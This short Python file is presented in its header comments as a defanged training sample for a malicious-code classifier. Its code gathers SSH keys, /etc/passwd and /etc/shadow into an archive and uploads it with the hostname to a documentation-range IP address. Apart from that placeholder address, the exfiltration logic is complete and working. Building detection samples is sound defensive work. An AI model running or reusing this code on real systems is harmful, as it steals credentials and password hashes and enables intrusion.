# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import glob, os, socket, tarfile, io, urllib.request
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    for f in glob.glob(os.path.expanduser("~/.ssh/*")) + ["/etc/passwd", "/etc/shadow"]:
        try:
            tar.add(f)
        except Exception:
            pass
req = urllib.request.Request("http://192.0.2.90/upload?h=" + socket.gethostname(), data=buf.getvalue())
urllib.request.urlopen(req)
